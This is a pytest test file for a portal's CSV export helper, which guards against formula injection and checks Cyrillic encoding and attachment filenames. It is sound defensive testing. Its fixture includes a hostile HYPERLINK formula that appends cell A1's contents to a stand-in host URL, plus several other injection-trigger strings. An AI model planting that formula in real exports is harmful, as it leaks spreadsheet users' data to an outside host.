"""core.csvsafe: OWASP's rule against CSV (formula) injection, the
one helper every CSV export of the portal writes through."""

from __future__ import annotations

import csv
import io

import pytest

from core.csvsafe import csv_bytes, csv_response, safe_cell

FORMULA = '=HYPERLINK("http://x/"&A1,"Click")'


@pytest.mark.parametrize(("value", "expected"), [
    (FORMULA, "'" + FORMULA),
    ("+7 727 000 00 00", "'+7 727 000 00 00"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\tcmd", "'\tcmd"),
    ("\rcmd", "'\rcmd"),
    ("Нурланов", "Нурланов"),
    ("O'Brien", "O'Brien"),
    ("a=b", "a=b"),
    ("", ""),
    (None, ""),
    (-3, "-3"),
    (2.5, "2.5"),
    (True, "True"),
])
def test_safe_cell_prefixes_only_what_a_spreadsheet_reads_as_a_formula(value, expected):
    assert safe_cell(value) == expected


def test_csv_bytes_neutralises_every_cell_and_keeps_the_cyrillic():
    content = csv_bytes([["Фамилия", "Surname"], [FORMULA, "=1+1"], ["Аманов", "-1"]])

    assert content.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    assert rows == [["Фамилия", "Surname"], ["'" + FORMULA, "'=1+1"], ["Аманов", "'-1"]]


def test_csv_response_is_an_attachment_with_the_cyrillic_name_encoded_by_django():
    response = csv_response(filename="участники.csv", header=["Имя"], rows=[["Аманов"]])

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == (
        "attachment; filename*=utf-8''%D1%83%D1%87%D0%B0%D1%81%D1%82%D0%BD%D0%B8%D0%BA%D0%B8.csv"
    )


def test_csv_response_quotes_an_ascii_name():
    response = csv_response(filename="action-plan.csv", header=["a"], rows=[])

    assert response["Content-Disposition"] == 'attachment; filename="action-plan.csv"'


def test_csv_response_writes_the_header_then_the_rows_with_formulas_neutralised():
    response = csv_response(
        filename="x.csv", header=["Name", "Note"], rows=[["=1+1", "Аманов"], ["ok", FORMULA]],
    )

    assert response.content.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows == [["Name", "Note"], ["'=1+1", "Аманов"], ["ok", "'" + FORMULA]]
